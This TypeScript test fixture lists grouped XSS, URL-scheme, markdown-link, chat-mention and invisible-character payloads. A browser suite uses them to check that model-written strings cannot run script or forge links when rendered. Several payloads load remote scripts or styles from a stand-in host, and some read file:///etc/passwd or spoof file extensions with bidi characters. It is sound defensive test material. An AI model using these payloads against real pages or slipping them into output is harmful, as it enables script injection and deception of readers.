/**
 * Hostile text for the payload suite (`test/node/browser/hostile-payloads.test.ts`): what a model,
 * or whoever steers one, might put in any string field to run script, forge a link, ping a channel
 * or hide what a text says. Grouped by what each group attacks; every payload goes into every
 * string field of every primitive, URL fields included. Script payloads call `alert` (or a sibling)
 * so an execution the page-level hooks miss still shows as a CSP report.
 */

/** `<script>` in its many spellings, and text that closes a raw-text element to open one. */
const SCRIPT_TAGS = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<script src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script>',
  '<script type="module">alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
] as const;

/** Event-handler attributes, on tags that fire them without any user action where possible. */
const EVENT_HANDLERS = [
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src="x" onerror  =  alert(1)>',
  '<img src=x onerror=alert&#40;1&#41;>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<img src=x onerror=confirm(1)>',
  '<img src=x onerror=prompt(1)>',
  '<img src=x onerror=print()>',
  '<img src=x onerror=console.log(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onmouseover=alert(1)>hover me</div>',
  '<a onclick=alert(1)>click me</a>',
  '<style onload=alert(1)></style>',
  '<link rel=stylesheet href=x onerror=alert(1)>',
  '<object data=x onerror=alert(1)></object>',
  '<iframe onload=alert(1)></iframe>',
  '<form><button formaction=javascript:alert(1)>go</button></form>',
  '<form action=javascript:alert(1)><input type=submit></form>',
  '<isindex action=javascript:alert(1) type=submit>',
] as const;

/** Breaking out of an attribute value, a comment or a raw-text element the renderer might emit. */
const BREAKOUTS = [
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus '",
  '" autofocus onfocus=alert(1) x="',
  '` onerror=alert(1)',
  '"/><img src=x onerror=alert(1)>',
  "'/><img src=x onerror=alert(1)>",
  '"><svg onload=alert(1)>',
  '--><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  '</a><img src=x onerror=alert(1)>',
  '</pre><img src=x onerror=alert(1)>',
  '</code></pre><script>alert(1)</script>',
  '</section></div><img src=x onerror=alert(1)>',
  '</svg><img src=x onerror=alert(1)>',
  '</text></svg><img src=x onerror=alert(1)>',
] as const;

/** SVG and MathML: foreign content with its own parsing rules and link attributes. */
const FOREIGN_CONTENT = [
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><a href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><animate attributeName=href values=javascript:alert(1)>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<svg><image href=x onerror=alert(1)>',
  '<svg><use href="data:image/svg+xml,<svg id=x ' +
    'xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
  '<svg><style>@import url(//evil.example/x.css);</style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>',
] as const;

/** CSS: closing the style element, script in values, and remote or binding loads. */
const CSS_BREAKOUTS = [
  '</style><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '</STYLE ><svg onload=alert(1)>',
  '</style><style>*{display:none}</style>',
  'red;background:url(javascript:alert(1))',
  'red;background-image:url("javascript:alert(1)")',
  'x{}body{background:url("javascript:alert(1)")}',
  'expression(alert(1))',
  'width:expression(alert(1))',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="behavior:url(x.htc)">x</p>',
  '@import "javascript:alert(1)";',
  '@import url(//evil.example/x.css);',
  '*/}body{display:none}/*',
  '-moz-binding:url(//evil.example/x.xml#x)',
  '\\3c /style\\3e \\3c script\\3e alert(1)',
  '";}</style><script>alert(1)</script>',
] as const;

/** `javascript:` spelled so a naive scheme check misses it. */
const SCRIPT_URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'JAVASCRIPT:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  '&#0000106;avascript:alert(1)',
  '&#x6a&#x61&#x76&#x61script:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  'jav&#x09;ascript:alert(1)',
  'jav&#x0A;ascript:alert(1)',
  'jav&Tab;ascript:alert(1)',
  'javascript&NewLine;:alert(1)',
  '%6Aavascript:alert(1)',
  'javascript://%0Aalert(1)',
  'javascript://evil.example/%0Aalert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
  'javascript:void(0)',
  '1javascript:alert(1)',
] as const;

/** Other schemes that run or load something: `data:`, `vbscript:`, files, blobs. */
const OTHER_SCHEMES = [
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<img src=x onerror=alert(1)>',
  ' data:text/html,<script>alert(1)</script>',
  'data:application/javascript,alert(1)',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'data:,alert(1)',
  'vbscript:msgbox(1)',
  'VBScript:MsgBox(1)',
  'livescript:alert(1)',
  'file:///etc/passwd',
  'blob:https://evil.example/0',
  'filesystem:https://evil.example/temporary/x',
  'view-source:https://evil.example',
] as const;

/** URLs that leave the page's origin without a scheme, or disguise where they go. */
const OFF_ORIGIN = [
  '//evil.example',
  '//evil.example/x.png',
  '\\\\evil.example',
  '/\\evil.example',
  '\\/evil.example',
  '///evil.example',
  'https:evil.example',
  'https://good.example@evil.example/',
  'https://evil.example/x.png',
  'http://evil.example/%2F..%2F',
] as const;

/** Markdown links and images a reader would build from text that was not escaped. */
const MARKDOWN_LINKS = [
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x]( javascript:alert(1) )',
  '[x](javascript&#58;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '![x](https://evil.example/x.png" onerror="alert(1)")',
  '[x](https://good.example "t\\" onmouseover=alert(1)")',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[r]: javascript:alert(1)',
  '[x]: <javascript:alert(1)>',
  '![x][i]\n\n[i]: data:text/html,<script>alert(1)</script>',
  '[a](https://good.example)[b](javascript:alert(1))',
  '[[x](javascript:alert(1))](https://good.example)',
  '[![x](https://good.example/i.png)](javascript:alert(1))',
  '*[x](javascript:alert(1))*',
  '**[x](javascript:alert(1))**',
  '`[x](javascript:alert(1))`',
  '\\[x](javascript:alert(1))',
  '[x]\\(javascript:alert(1))',
] as const;

/** Bare URLs (which GFM readers autolink) followed by markup, and angle-bracket autolinks. */
const AUTOLINKS = [
  'https://example.com/x<img src=x onerror=alert(1)//>',
  'www.example.com<img src=x onerror=alert(1)>',
  'http://a.example/<script>alert(1)</script>',
  'HTTPS://A.EXAMPLE/<img src=x onerror=alert(1)>',
  'ftp://a.example/<svg onload=alert(1)>',
  'https://a.example/`<img src=x onerror=alert(1)>`',
  'https://a.example/x`code [y](javascript:alert(1))`',
  'https://a.example/**<img src=x onerror=alert(1)>**',
  'https://a.example/_<img src=x onerror=alert(1)>_',
  'https://a.example/[x](javascript:alert(1))',
  'https://a.example/x\\<img src=x onerror=alert(1)>',
  'https://a.example/&lt;img src=x onerror=alert(1)&gt;',
  'www.a.example/~<b onmouseover=alert(1)>x</b>',
  'mailto:a@b.example<img src=x onerror=alert(1)>',
  'a@b.example<img src=x onerror=alert(1)>',
  'xmpp:a@b.example<img src=x onerror=alert(1)>',
  '<javascript:alert(1)>',
  '<https://evil.example>',
  '<a@evil.example>',
  '<vbscript:msgbox(1)>',
] as const;

/** Comments, CDATA, doctypes and processing instructions: markup that hides or reopens markup. */
const COMMENTS = [
  '<!-- <img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '--!><img src=x onerror=alert(1)>',
  '<!---><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!DOCTYPE html><img src=x onerror=alert(1)>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<? echo 1 ?><img src=x onerror=alert(1)>',
  '<!--',
  '<![CDATA[',
] as const;

/** Chat-host mention, broadcast and link syntax (Slack, Discord, Teams). */
const MENTIONS = [
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<!channel|channel>',
  '<!subteam^S0123|@team>',
  '<!date^1392734382^{date}|Feb 18>',
  '<@U0123ABC>',
  '<@W0123|bob>',
  '<#C0123ABC>',
  '<#C0123|general>',
  '<https://evil.example|https://good.example>',
  '<javascript:alert(1)|click me>',
  '<mailto:a@evil.example|support>',
  '&lt;!channel&gt;',
  '@everyone',
  '@here',
  '@channel',
  '<@&123456789>',
  '<@!123456789>',
  '</cmd:123456789>',
  '<at>Alice</at>',
  '<at id="0">Alice</at>',
] as const;

/** Bidi overrides, zero-width and other invisible characters, and every Unicode line break. */
const INVISIBLE = [
  '\u202Eexe.txt',
  'invoice\u202Efdp.exe',
  '\u2066x\u2069 \u2067y\u2069 \u2068z\u2069',
  '\u202Djs.gpj\u202C',
  '\u200B<img src=x onerror=alert(1)>',
  '<\u200Bscript>alert(1)</script>',
  'java\u200Bscript:alert(1)',
  '\u200Djavascript:alert(1)',
  '\uFEFF<script>alert(1)</script>',
  'a\u00ADb\u061Cc\u180Ed',
  '\u2028<script>alert(1)</script>',
  'line\u2028break',
  'para\u2029break',
  'next\u0085line',
  'vertical\u000Btab',
  'form\u000Cfeed',
  'carriage\rreturn',
  'crlf\r\n# heading',
  '\u0000<script>alert(1)</script>',
  '\u001B[31mred\u001B[0m',
  '\u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007',
  '\uD800',
] as const;

/** Markdown block and inline syntax: structure a reader must not see in model text. */
const MARKDOWN_STRUCTURE = [
  '# heading',
  '###### h6 ###',
  '> quote',
  '- item',
  '1. item',
  '---',
  '===',
  '| a | b |\n| - | - |',
  '```\ncode\n```',
  '~~~',
  '    indented',
  '**bold** _em_ ~~del~~',
  '- [x] task',
  '[^1]\n\n[^1]: note',
  '<details><summary>x</summary>y</details>',
  '<br><hr><b>bold</b>',
  '\\',
  'trailing\\',
] as const;

/** Templates, encodings and look-alikes that only matter if something decodes them once too often. */
const ENCODED = [
  '{{constructor.constructor("alert(1)")()}}',
  // A template literal's placeholder, written with an escape so it stays plain text here.
  '\u0024{alert(1)}',
  '<%= 7*7 %>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '\uFE64img src=x onerror=alert(1)\uFE65',
  `<${'x'.repeat(200)} onerror=alert(1)>`,
  '<<<<<<<<<<img src=x onerror=alert(1)>>>>>>>>>>',
  '"\'`<>&;',
] as const;

export const HOSTILE_PAYLOAD_GROUPS = {
  scriptTags: SCRIPT_TAGS,
  eventHandlers: EVENT_HANDLERS,
  breakouts: BREAKOUTS,
  foreignContent: FOREIGN_CONTENT,
  css: CSS_BREAKOUTS,
  scriptUrls: SCRIPT_URLS,
  otherSchemes: OTHER_SCHEMES,
  offOrigin: OFF_ORIGIN,
  markdownLinks: MARKDOWN_LINKS,
  autolinks: AUTOLINKS,
  comments: COMMENTS,
  mentions: MENTIONS,
  invisible: INVISIBLE,
  markdownStructure: MARKDOWN_STRUCTURE,
  encoded: ENCODED,
} as const;

/** Every payload once, in group order. */
export const HOSTILE_PAYLOADS: readonly string[] = [...new Set(Object.values(HOSTILE_PAYLOAD_GROUPS).flat())];
